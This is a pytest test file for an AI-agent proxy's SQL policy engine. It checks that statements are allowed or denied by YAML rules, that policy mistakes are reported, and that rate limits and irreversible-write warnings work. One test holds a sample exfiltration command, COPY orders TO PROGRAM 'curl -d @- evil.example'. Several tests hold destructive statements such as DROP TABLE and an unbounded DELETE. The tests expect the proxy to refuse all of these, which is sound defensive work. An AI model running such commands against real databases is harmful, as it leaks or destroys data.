"""SQL rules in policy files: their shape and its mistakes, and the default-deny decision over parsed statements."""

from __future__ import annotations

import pytest

from goex_proxy.policy.engine import PolicySet
from goex_proxy.policy.load import check_policy_text
from goex_proxy.policy.sql import TRANSACTION_RULE, decide
from goex_proxy.policy.sqlparse import parse

POLICY = """\
version: 1
name: shop
agents: [bot]
rules:
  - name: read
    allow: {database: shop, statements: [select], tables: [orders, public.customers]}
  - name: write orders
    allow: {database: shop, statements: [insert, update, delete], tables: [orders], columns: [qty, id, item]}
  - name: sleepy
    allow: {database: shop, statements: [select], tables: [none], functions: [pg_sleep], when: "agent == 'bot'"}
  - name: no unbounded writes
    deny: {database: shop, statements: [update, delete], when: "!statement.where", reason: need a WHERE}
  - name: never payroll
    deny: {database: "*", tables: [payroll], reason: payroll is private}
  - name: http
    allow: {host: api.example.com, methods: [GET]}
"""


def policies(text: str = POLICY):
    policy, problems = check_policy_text(text, "shop.yaml")
    assert policy is not None, problems
    return (policy,)


def verdict(sql: str, agent: str = "bot", database: str = "shop"):
    decision, _ = decide(policies(), database, agent, parse(sql), now=0.0)
    return decision


def test_sql_rules_sit_beside_http_rules() -> None:
    (policy,) = policies()
    assert [r.name for r in policy.rules] == ["http"]
    assert [r.name for r in policy.sql_rules] == ["read", "write orders", "sleepy", "no unbounded writes",
                                                  "never payroll"]


@pytest.mark.parametrize(("sql", "effect", "rule"), [
    ("SELECT * FROM orders", "allow", "shop/read"),
    ("SELECT name FROM customers", "allow", "shop/read"),
    ("SELECT name FROM public.customers", "allow", "shop/read"),
    ("SELECT name FROM other.customers", "deny", None),              # another schema's table is another table
    ("UPDATE orders SET qty = 1 WHERE id = 2", "allow", "shop/write orders"),
    ("UPDATE orders SET item = 'x', secret = 1 WHERE id = 2", "deny", None),   # a column it does not list
    ("DELETE FROM orders", "deny", "shop/no unbounded writes"),
    ("TRUNCATE orders", "deny", "shop/no unbounded writes"),
    ("WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d", "deny", "shop/no unbounded writes"),
    # One rule must allow all a statement does: reading and deleting here, which no rule allows together.
    ("WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM d", "deny", None),
    ("SELECT * FROM payroll", "deny", "shop/never payroll"),
    ("DROP TABLE orders", "deny", None),
    ("SELECT pg_sleep(1)", "allow", "shop/sleepy"),
    ("BEGIN", "allow", TRANSACTION_RULE),
    ("SET ROLE postgres", "deny", None),
])
def test_decisions(sql: str, effect: str, rule: str | None) -> None:
    decision = verdict(sql)
    assert (decision.effect, decision.rule) == (effect, rule), decision.reason


def test_every_statement_of_a_message_must_be_allowed() -> None:
    decision, refused = decide(policies(), "shop", "bot", parse("SELECT 1 FROM orders; DELETE FROM orders"))
    assert decision.effect == "deny" and decision.reason == "need a WHERE"
    assert refused is not None and refused.text == "DELETE FROM orders"
    decision, _ = decide(policies(), "shop", "bot", parse("SELECT 1 FROM orders; SELECT 2 FROM customers"))
    assert (decision.effect, decision.rule) == ("allow", "shop/read")


def test_default_deny_says_why() -> None:
    assert verdict("SELECT * FROM orders", database="crm").reason == \
        "no rule allows SELECT on orders on database 'crm' for agent 'bot' (default deny)"
    assert verdict("SELECT * FROM orders", agent="stranger").effect == "deny"   # the policy is bot's only
    assert "dblink, which the policy cannot see through" in verdict("SELECT dblink('a', 'b') FROM orders").reason


def test_a_report_mode_policys_sql_rules_allow_nothing() -> None:
    policy, problems = check_policy_text(POLICY.replace("agents: [bot]", "agents: [bot]\nmode: report"), "r.yaml")
    assert policy is not None
    assert any("SQL rules are not applied" in str(p) for p in problems)
    assert decide((policy,), "shop", "bot", parse("SELECT * FROM orders"))[0].effect == "deny"


@pytest.mark.parametrize(("rule", "message"), [
    ("allow: {database: shop, tables: [orders]}", "must list the 'statements' it allows"),
    ("allow: {database: shop, statements: [selcet]}", "unknown kind 'selcet'"),
    ("allow: {database: '*', statements: [select]}", "an allow rule never applies to every database"),
    ("allow: {database: shop, statements: [select], host: x.example}", "unknown key 'host'"),
    ("deny: {database: shop, statements: [delete], limit: {count: 1}}", "unknown key 'limit'"),
    ("deny: {database: shop, statements: [delete], hold: true}", "unknown key 'hold'"),
    ("allow: {database: shop, statements: [delete], limit: {count: -1}}", "limit.count' must be a whole number"),
    ("allow: {database: shop, statements: [delete], hold: true, delay: 5s}", "has both 'hold' and 'delay'"),
    ("allow: {database: shop, statements: [delete], hold: {on_timeout: later}}", "must be 'deny' or 'send'"),
    ("deny: {database: shop, columns: [a]}", "unknown key 'columns'"),
    ("allow: {database: shop, statements: [select], when: 'request.method == 1'}", "request"),
    ("allow: {database: shop, databases: [x], statements: [select]}", "has both 'database' and 'databases'"),
    ("allow: {database: shop, statements: [select], tables: []}", "must not be empty"),
])
def test_mistakes_are_located(rule: str, message: str) -> None:
    text = f"version: 1\nname: p\nrules:\n  - name: r\n    {rule}\n"
    policy, problems = check_policy_text(text, "p.yaml")
    assert policy is None
    assert any(message in str(p) and str(p).startswith("p.yaml:5:") for p in problems), problems


def test_copy_needs_a_rule_and_never_reaches_the_servers_files() -> None:
    assert verdict("COPY orders TO STDOUT").effect == "deny"
    text = POLICY + "  - name: export\n    allow: {database: shop, statements: [copy], tables: [orders]}\n"
    assert decide(policies(text), "shop", "bot", parse("COPY orders TO STDOUT"))[0].rule == "shop/export"
    refused = decide(policies(text), "shop", "bot", parse("COPY orders TO PROGRAM 'curl -d @- evil.example'"))[0]
    assert refused.effect == "deny" and "never relayed" in refused.reason


def test_names_compare_as_postgresql_folds_them() -> None:
    """Unquoted names fold to lower case; a quoted one is another object, which a rule names with its quotes."""
    assert verdict("SELECT * FROM ORDERS").rule == "shop/read"
    assert verdict('SELECT * FROM "Orders"').effect == "deny"          # not the table `orders`
    text = POLICY + """  - name: mixed case\n    allow: {database: shop, statements: [select], tables: ['"Orders"']}\n"""
    assert decide(policies(text), "shop", "bot", parse('SELECT * FROM "Orders"'))[0].rule == "shop/mixed case"
    # A function of one's own named "Lower" is not the built-in lower().
    assert "Lower" in verdict('SELECT "Lower"(item) FROM orders').reason
    assert verdict("SELECT LOWER(item) FROM orders").rule == "shop/read"


LIMITED = """\
version: 1
name: shop
rules:
  - name: read
    allow: {database: shop, statements: [select]}
  - name: deletes
    allow: {database: shop, statements: [delete], limit: {count: 100, per: 1h}, hold: {timeout: 10m}}
  - name: updates
    allow: {database: shop, statements: [update], delay: 30s}
  - name: ddl
    allow: {database: shop, statements: [ddl]}
"""


def test_limits_and_waits_of_the_rules_that_allowed_a_message() -> None:
    from goex_proxy.policy.sql import limits_of

    shop = policies(LIMITED)
    read = decide(shop, "shop", "bot", parse("SELECT 1"))[0]
    assert (read.count_limits, read.wait) == ((), None)
    both = decide(shop, "shop", "bot", parse("UPDATE t SET a = 1 WHERE b; DELETE FROM t WHERE c; BEGIN"))[0]
    assert both.rule == "shop/updates, shop/deletes, builtin/transaction-control"
    assert both.count_limits == ("shop/deletes",)
    twice = decide(shop, "shop", "bot", parse("DELETE FROM t WHERE a; SELECT 1; DELETE FROM u WHERE b"))[0]
    assert twice.count_limits == ("shop/deletes", "shop/deletes")  # a hit per statement
    assert both.wait is not None and (both.wait.kind, both.wait.seconds) == ("hold", 600)  # a hold beats a delay
    ((key, limit),) = limits_of(shop, both.count_limits)
    assert (key, limit.count, limit.per) == ("shop/deletes", 100, 3600)
    # Pruning the log keeps the rows whose hits still count, SQL rules' as HTTP rules'.
    assert PolicySet.of(shop).limit_windows() == {"shop/deletes": 3600}


def test_policy_check_warns_of_irreversible_sql_without_a_limit(tmp_path) -> None:
    from goex_proxy.undo.policycheck import check_file

    path = tmp_path / "shop.yaml"
    path.write_text(LIMITED)
    warned = [p.message for p in check_file(path) if p.severity == "warning"]
    # deletes are limited, reads change nothing; updates only wait (a delay lets them through unseen), DDL nothing.
    assert [w.split("'")[1] for w in warned] == ["updates", "ddl"], warned
    assert "allows update on shop with no limit, and undo cannot take them back" in warned[0]


def test_the_warning_asks_which_kinds_undo_can_take_back(monkeypatch) -> None:
    from goex_proxy.policy import sqlundo

    (policy,) = policies(LIMITED)
    assert len(sqlundo.unlimited_irreversible(policy)) == 2
    monkeypatch.setattr(sqlundo, "reversible_kinds", lambda transaction="auto": frozenset({"update", "ddl"}))
    assert sqlundo.unlimited_irreversible(policy) == []


def test_a_rule_letting_functions_through_without_a_limit_is_warned_of() -> None:
    """A function a rule lets a read call (set_config, nextval, the database's own) may change anything, and its
    statement is classed irreversible as it runs: the warning for irreversible kinds must not miss it."""
    from goex_proxy.policy import sqlundo

    (policy,) = policies("""\
version: 1
name: shop
agents: [mailbot]
rules:
  - name: settings by function
    allow: {database: shop, statements: [select], functions: [set_config, nextval]}
  - name: counted
    allow: {database: shop, statements: [select], functions: [nextval], limit: {count: 5, per: 1h}}
""")
    (warned,) = sqlundo.unlimited_irreversible(policy)
    assert "SQL rule 'settings by function' lets statements call nextval, set_config on shop with no limit" \
        in warned.message, warned.message
